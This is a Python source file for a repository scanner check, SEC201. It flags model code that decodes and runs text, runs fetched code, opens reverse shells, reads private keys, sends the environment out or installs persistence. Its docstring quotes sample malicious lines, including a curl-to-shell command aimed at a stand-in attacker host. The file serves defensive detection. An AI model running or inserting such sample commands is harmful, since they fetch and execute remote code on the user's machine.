"""SEC201: code that does what no model needs."""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import cache
from typing import NamedTuple

from assay.artifact.revision import Revision, Seen
from assay.canonical import JSON
from assay.checks import check, fail
from assay.checks.code_flow import Site, calls, matches, steps
from assay.checks.wording import shown
from assay.finding import Confidence, Fact, Finding, Severity
from assay.rules import load

__all__ = ["code_reach"]

_MOST = 20


class _Problem(NamedTuple):
    site: Site
    what: str
    severity: Severity = Severity.CRITICAL


@check("SEC201-code-reach", severity=Severity.CRITICAL, claims=("python",))
def code_reach(revision: Revision) -> Iterator[Finding | Fact]:
    """No code of the repo does what no model needs: unpack and run code, steal secrets, stay on the machine.

    Ordinary model code computes, reads its own files and sometimes fetches an image. Code that decodes a text and runs
    it, runs what it has just fetched, hands a shell to somebody else, reads keys of the user, sends the environment
    away, writes itself into what starts at login, or calls functions under names put together at run time hides what
    it does.

    Sample: `exec(base64.b64decode("…"))`; `os.system("curl https://evil.example/x | sh")`.

    Fix: do not run anything of this repo. Report it to the hub it came from, and change the secrets of a machine on
    which it ran.

    References: CWE-506 (embedded malicious code), CWE-94, MITRE ATT&CK T1027, T1041, T1059, T1105, T1546, T1552.
    """
    for seen in revision.seen("python"):
        problems = list(_problems(seen))
        for found in sorted(problems, key=lambda problem: -problem.severity.rank)[:_MOST]:
            yield fail(
                code_reach, f"the code {found.what}", file=seen.file, location=seen.at(f"line {found.site.line}"),
                severity=found.severity, confidence=Confidence.HIGH if found.site.on_import else Confidence.MEDIUM,
                detail=found.site.evidence, fix="Do not run it; report the repo.",
            )  # fmt: skip
    for seen in revision.seen("text"):
        yield from _script(seen)


def _problems(seen: Seen) -> Iterator[_Problem]:
    sites = list(calls(seen))
    sends = [site for site in sites if matches(site.names, _list("sends"))]
    writes = any(matches(site.names, _list("writes")) for site in sites)
    connects = any(matches(site.names, _list("connects")) for site in sites)
    for site in sites:
        yield from _run(site)
        yield from _sent(site)
        yield from _read(site, sends=bool(sends), writes=writes)
        if connects and matches(site.names, _list("shell-back")):
            yield _Problem(site, "hands a shell to whoever it connects to")
        if (name := matches(site.names, _list("memory"))) is not None:
            yield _Problem(site, f"runs machine code or a command through ctypes: {shown(name, 60)}")


def _run(site: Site) -> Iterator[_Problem]:
    name = matches(site.names, _list("runs"))
    if name is None:
        return
    if str(site.record["name"]).startswith("?") and name not in ("compile", "importlib.import_module"):
        yield _Problem(site, f"calls {shown(name, 60)} under a name that is put together", Severity.HIGH)
    for given in site.all_given():
        for origin in given.origins:
            way = steps(origin)
            decoded = matches([way[0].removeprefix("call:"), *way[1:]], _list("decodes"))
            fetched = matches([way[0].removeprefix("call:"), *way[1:]], _list("fetches"))
            pickled = name.endswith(".loads") and not (decoded is not None and way[0].startswith("call:"))
            if pickled:  # an honest mistake, which SEC301 tells
                continue
            if decoded is not None and name != "compile":
                yield _Problem(site, f"decodes a text and runs it: {shown(name, 40)} of {shown(decoded, 40)}")
                return
            if fetched is not None:
                yield _Problem(site, f"runs what it fetches: {shown(name, 40)} of {shown(fetched, 40)}")
                return
    for text in _texts(site):
        if (found := _pattern("commands").search(text)) is not None:
            yield _Problem(site, f"runs a command that no model needs: {shown(found[0], 60)}")
            return


def _sent(site: Site) -> Iterator[_Problem]:
    if matches(site.names, _list("sends")) is None:
        return
    for given in site.all_given():
        whole = matches(given.origins, _list("whole-environment"))
        if whole is not None and not any(step.startswith("[") for step in steps(whole)):
            yield _Problem(site, "sends the whole environment away")
            return


def _read(site: Site, *, sends: bool, writes: bool) -> Iterator[_Problem]:
    if matches(site.names, _list("opens")) is None:
        return
    for text in _texts(site):
        if (found := _pattern("private").search(text)) is not None:
            severity = Severity.CRITICAL if sends else Severity.HIGH
            yield _Problem(site, f"looks into what is private: {shown(found[0], 40)}", severity)
        elif (found := _pattern("startup").search(text)) is not None:
            severity = Severity.CRITICAL if writes else Severity.HIGH
            yield _Problem(site, f"touches what starts by itself: {shown(found[0], 40)}", severity)


def _script(seen: Seen) -> Iterator[Finding]:
    """Look through shell scripts, which are kept as text."""
    text = seen.facts.get("text")
    if not isinstance(text, str) or not (seen.place.endswith((".sh", ".bash", ".command")) or text.startswith("#!")):
        return
    for number, line in enumerate(text.splitlines(), 1):
        found = _pattern("commands").search(line)
        if found is not None and not line.lstrip().startswith("#"):
            known = any(host in line for host in load("requirement_places")["entries"]["installers"])
            yield fail(
                code_reach, f"the script runs a command that no model needs: {shown(found[0], 60)}", file=seen.file,
                location=seen.at(f"line {number}"), severity=Severity.LOW if known else Severity.HIGH,
                confidence=Confidence.MEDIUM, fix="Do not run it; read what it fetches first.",
            )  # fmt: skip


def _texts(site: Site) -> Iterator[str]:
    """Yield the texts that a call is given, as far as they are known."""
    for given in site.all_given():
        yield from _strings(given.literal)
        if given.built is not None:
            yield given.built
    words = list(_strings(site.given(position=0).literal))
    if len(words) > 1:
        yield " ".join(words)


def _strings(value: JSON) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _list(key: str) -> tuple[str, ...]:
    return tuple(load("code_reach")["entries"][key])


@cache
def _pattern(key: str) -> re.Pattern[str]:
    return re.compile(load("code_reach")["entries"][key])
